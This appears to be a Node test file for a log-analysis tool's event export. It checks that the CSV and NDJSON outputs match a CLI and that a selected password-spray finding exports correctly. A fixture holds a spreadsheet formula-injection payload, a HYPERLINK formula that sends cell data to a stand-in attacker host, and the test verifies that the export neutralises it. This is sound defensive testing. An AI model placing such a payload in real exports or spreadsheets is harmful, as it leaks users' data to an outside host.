// Export of the matching events from the Events panel: CSV (formula-like cells neutralised) and NDJSON
// of the original records, built in the worker and downloaded through a blob: URL. The files are
// compared with `authtrail export` on the same inputs, and, for a selected finding, with the table
// and the fixture's own records.

import { test } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { execFileSync } from 'node:child_process';
import { suite, toInt, FIXTURES, cliPath, tempDir } from './harness.js';
import { captureExports, exportVia, showFinding } from './checks.js';

const ctx = suite({ label: 'export' });
const STORY = path.join(FIXTURES, 'stories', 'story_verify_takeover.ndjson');
const GZ = path.join(FIXTURES, 'at_archive_2019-2020.ndjson.gz');

/** A Verify sign-in whose user name and country a spreadsheet would run as formulas. */
const HOSTILE = `${JSON.stringify({
  geoip: { country_iso_code: '@SUM(1+1)', ip: '198.51.100.99' },
  data: { result: 'success', subtype: 'user_password', origin: '198.51.100.99', username: '=HYPERLINK("http://evil.example/?"&A1,"click")' },
  event_type: 'authentication',
  id: 'hostile-1',
  time: 1714990000000,
})}\n`;

const cliExport = (flag, files) => execFileSync(cliPath(), ['export', flag, ...files], { encoding: 'utf8', maxBuffer: 64 << 20 });

const csvRows = (text) => text.split('\r\n').slice(1, -1);

test("export: CSV and NDJSON of every event equal the CLI's; of a selected finding, the table's rows and the fixture's records", async () => {
  const dir = tempDir('export');
  const hostile = path.join(dir, 'hostile.ndjson');
  fs.writeFileSync(hostile, HOSTILE);
  const files = [STORY, hostile, GZ];
  try {
    await ctx.withApp('export', async (app) => {
      const s0 = await app.loadFiles(files);
      await captureExports(app);

      const all = await exportVia(app, 'export-csv');
      assert.match(all.name, /^authtrail-events-\d{8}T\d{6}Z\.csv$/);
      assert.equal(all.text, cliExport('--csv', files), "the page's CSV differs from `authtrail export --csv`");
      assert.equal(csvRows(all.text).length, toInt(s0.tableCount, 'table-count'), 'one CSV row per matching event');
      const evil = csvRows(all.text).find((r) => r.includes('HYPERLINK'));
      assert.ok(evil.includes(',"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")",'), evil);
      assert.ok(evil.endsWith(',"\'@SUM(1+1)"'), evil);
      assert.match(await app.tid('export-status').textContent(), /events exported$/);

      const allJson = await exportVia(app, 'export-ndjson');
      assert.match(allJson.name, /^authtrail-events-\d{8}T\d{6}Z\.ndjson$/);
      assert.equal(allJson.text, cliExport('--ndjson', files), "the page's NDJSON differs from `authtrail export --ndjson` (plain and gzip files)");

      const spray = await showFinding(app, 'password-spray');
      const s1 = await app.settleUi(
        () => spray.click(),
        (s) => toInt(s.tableCount, 'table-count') === 6,
        'the spray finding selected',
      );
      const shown = toInt(s1.tableCount, 'table-count');

      const csv = await exportVia(app, 'export-csv');
      const rows = csvRows(csv.text);
      assert.equal(rows.length, shown, 'CSV rows of the selected finding');
      assert.ok(
        rows.every((r) => r.includes(',203.0.113.250,')),
        rows.join('\n'),
      );

      const ndjson = await exportVia(app, 'export-ndjson');
      const lines = ndjson.text.split('\n').slice(0, -1);
      assert.equal(lines.length, shown, 'NDJSON lines of the selected finding');
      const originals = new Map(
        fs
          .readFileSync(STORY, 'utf8')
          .split('\n')
          .filter(Boolean)
          .map((l) => [JSON.parse(l).id, JSON.parse(l)]),
      );
      for (const line of lines) {
        const record = JSON.parse(line);
        assert.deepEqual(record, originals.get(record.id), `not the fixture's record: ${line}`);
      }
      // Ready again, not stuck busy (the link's debounced write may still be running just now).
      await app.ready();
      await app.shot('exported');
    });
  } finally {
    fs.rmSync(dir, { recursive: true, force: true });
  }
});
